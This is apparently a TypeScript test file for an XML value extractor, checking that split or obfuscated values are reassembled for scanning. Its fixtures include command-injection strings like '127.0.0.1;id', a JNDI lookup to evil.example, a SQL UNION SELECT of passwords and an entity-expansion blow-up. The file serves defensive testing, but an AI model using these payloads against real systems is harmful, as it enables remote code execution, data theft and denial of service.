import assert from 'node:assert/strict';
import { test } from 'node:test';
import { xmlValues } from './xml.ts';

const paths = (xml: string): [string, string][] => xmlValues(xml, 1024).values.map((v) => [v.path, v.value]);

test('values, attributes and CDATA as a parser reads them', () => {
  const xml =
    '<?xml version="1.0"?><s:Env xmlns:s="x"><s:Body><Login a="1>2"><User>jane</User><Password>p&gt;w</Password>' +
    '<!-- note --><Note><![CDATA[<b>hi</b>]]></Note></Login></s:Body></s:Env>';
  assert.deepEqual(paths(xml), [
    ['Env.Body.Login.@a', '1>2'],
    ['Env.Body.Login.User', 'jane'],
    ['Env.Body.Login.Password', 'p&gt;w'],
    ['Env.Body.Login.Note', '<b>hi</b>'],
  ]);
});

test('a processing instruction, a quoted > or a Unicode name does not open or end a tag early (two reviews)', () => {
  assert.deepEqual(paths('<r><host><?pi x><password>?>127.0.0.1;id</host></r>'), [['r.host', '127.0.0.1;id']]);
  assert.deepEqual(paths('<r><host><password ü=">"/>127.0.0.1;id<password ü="/>"></password></host></r>'), [
    ['r.host.password.@ü', '>'],
    ['r.host.password.@ü', '/>'],
    ['r.host', '127.0.0.1;id'],
  ]);
  assert.deepEqual(paths('<login größe="1" password="$(a>b)"/>'), [['login.@größe', '1'], ['login.@password', '$(a>b)']]);
  assert.deepEqual(paths('<login><名前>ボブ</名前></login>'), [['login.名前', 'ボブ']]);
});

test("an element's own text is joined across comments, instructions, CDATA and children (a ninth review)", () => {
  assert.deepEqual(paths('<r><name>${jn<!---->di:ldap://evil.example/a}</name></r>'), [['r.name', '${jndi:ldap://evil.example/a}']]);
  assert.deepEqual(paths('<r><host>127.0.0.1;<![CDATA[id]]></host></r>'), [['r.host', '127.0.0.1;id']]);
  assert.deepEqual(paths('<r><host>127.0.0.1;<?a?>id</host></r>'), [['r.host', '127.0.0.1;id']]);
  assert.deepEqual(paths('<r><host>127.0.0.1<b/>;id</host></r>'), [['r.host', '127.0.0.1;id']]);
});

test('mixed content is also read whole, naming what it joins; entities are reported, not substituted', () => {
  const r = xmlValues("<r><q>1' UNION <b>SELECT</b> password FROM users--</q></r>", 1024);
  assert.deepEqual(
    r.values.map((v) => [v.path, v.value, v.joins]),
    [
      ['r.q.b', 'SELECT', undefined],
      ['r.q', "1' UNION  password FROM users--", undefined],
      ['r.q', "1' UNION SELECT password FROM users--", ['r.q', 'r.q.b']],
    ],
  );
  // A record's fields are not joined: a login's user and password stay two values.
  assert.deepEqual(paths('<Login><User>jane</User><Password>pw</Password></Login>'), [['Login.User', 'jane'], ['Login.Password', 'pw']]);
  // The document's own entities: nested ones and markup in them are a parser's job, so their use is what is reported.
  assert.equal(xmlValues('<!DOCTYPE r [<!ENTITY a "jn"><!ENTITY b "&a;di">]><r>${&b;:ldap://x/a}</r>', 1024).internalEntity, 'b');
  assert.equal(xmlValues('<!DOCTYPE r [<!ENTITY a "jn">]><r>Tom &amp; Jerry</r>', 1024).internalEntity, undefined);
});

test('nested mixed content repeats no more than a budget of text (a twelfth review: 4.4 GB, out of memory)', () => {
  const xml = `<!DOCTYPE r [<!ENTITY a "${'A'.repeat(4096)}">]>${'<a>x'.repeat(100)}${'&a;'.repeat(40_000)}${'</a>'.repeat(100)}`;
  const t0 = process.hrtime.bigint();
  const r = xmlValues(xml, 1024);
  assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 200);
  assert.equal(r.joinsCut, true);
  assert.ok(r.values.reduce((n, v) => n + v.value.length, 0) < 3 * xml.length);
});

test('only namespace declarations are skipped among attributes (a tenth review: xmlnsCmd hid ;id)', () => {
  assert.deepEqual(paths('<r xmlns="a" xmlns:p="b"><x xmlnsCmd=";id"/></r>'), [['r.x.@xmlnsCmd', ';id']]);
});

test('malformed documents still give every value; long names in deep paths stay linear', () => {
  assert.deepEqual(paths('<a><b>x</a></b>'), [['a.b', 'x']]);
  assert.deepEqual(paths('<a>1 < 2</a>'), [['a', '1 < 2']]);
  const name = 'n'.repeat(1900);
  const xml = `${`<${name}>`.repeat(64)}${'a<!---->'.repeat(1100)}${`</${name}>`.repeat(64)}`;
  const t0 = process.hrtime.bigint();
  xmlValues(xml, 1024);
  // A ReDoS guard, not a speed target.
  assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 60);
});
